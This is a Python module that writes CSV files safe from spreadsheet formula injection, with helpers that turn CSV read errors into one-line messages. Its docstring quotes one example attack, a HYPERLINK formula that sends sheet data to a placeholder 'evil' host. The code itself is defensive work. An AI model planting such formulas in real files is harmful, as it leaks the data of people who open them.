"""CSV cells that a spreadsheet cannot run: the one CSV writer for every CSV that vaar writes.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
to Excel, LibreOffice and Google Sheets (``=HYPERLINK("https://evil/?"&A1, "click")`` sends the
sheet's data away when clicked). Source lists, and so ``source_id`` and ``notes``, come from pull
requests; split files and label files are opened in spreadsheets by curators. Following OWASP's
advice, such a text cell is written with a leading ``'`` (shown as text, the value itself kept
readable). Numbers (``int``/``float``) are written as they are: ``-0.5`` is a number, not a formula.
Ids that vaar controls (``clip_id``, ``source_id``) are refused earlier, at validation, so a valid
build never needs the prefix; it is the last line of defence for free text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from typing import Any, TextIO

from vaar.core.textsafe import strip_controls

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def starts_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str):
        value = strip_controls(value)  # no terminal escapes in a file a curator may `cat`
        if starts_formula(value):
            return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def write_rows(fh: TextIO, header: Sequence[str], rows: Iterable[Iterable[Any]]) -> None:
    """Write ``header`` and ``rows`` to ``fh`` (``\\n`` line ends), every text cell made safe."""
    w = csv.writer(fh, lineterminator="\n")
    w.writerow(safe_row(header))
    for row in rows:
        w.writerow(safe_row(row))


def csv_bytes(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """The UTF-8 bytes of a CSV file, as :func:`write_rows` writes it."""
    buf = io.StringIO()
    write_rows(buf, header, rows)
    return buf.getvalue().encode("utf-8")


def read_problem(exc: csv.Error) -> str:
    """A ``csv.Error`` from reading an untrusted file as a short phrase (for a one-line error)."""
    text = str(exc)
    if "field larger than field limit" in text:
        return f"a field is longer than {csv.field_size_limit() // 1024} KB (a missing closing quote?)"
    return f"not valid CSV ({text[:120]})"


def checked(reader: Iterable[Any], where: str, error: type[Exception]) -> Iterator[Any]:
    """The rows of ``reader``; a ``csv.Error`` (a field over the size limit, a NUL byte, a bad quote)
    becomes ``error("<where>:<line>: <reason>")`` instead of a traceback."""
    it = iter(reader)
    while True:
        try:
            row = next(it)
        except StopIteration:
            return
        except csv.Error as exc:
            line = getattr(reader, "line_num", 0)
            raise error(f"{where}:{line}: {read_problem(exc)}; fix the file and rerun") from None
        yield row


def header_of(reader: csv.DictReader[str], where: str, error: type[Exception]) -> list[str]:
    """``reader.fieldnames``, with a ``csv.Error`` in the header row turned into ``error`` (one line)."""
    try:
        return list(reader.fieldnames or [])
    except csv.Error as exc:
        raise error(f"{where}:1: {read_problem(exc)}; fix the header row and rerun") from None
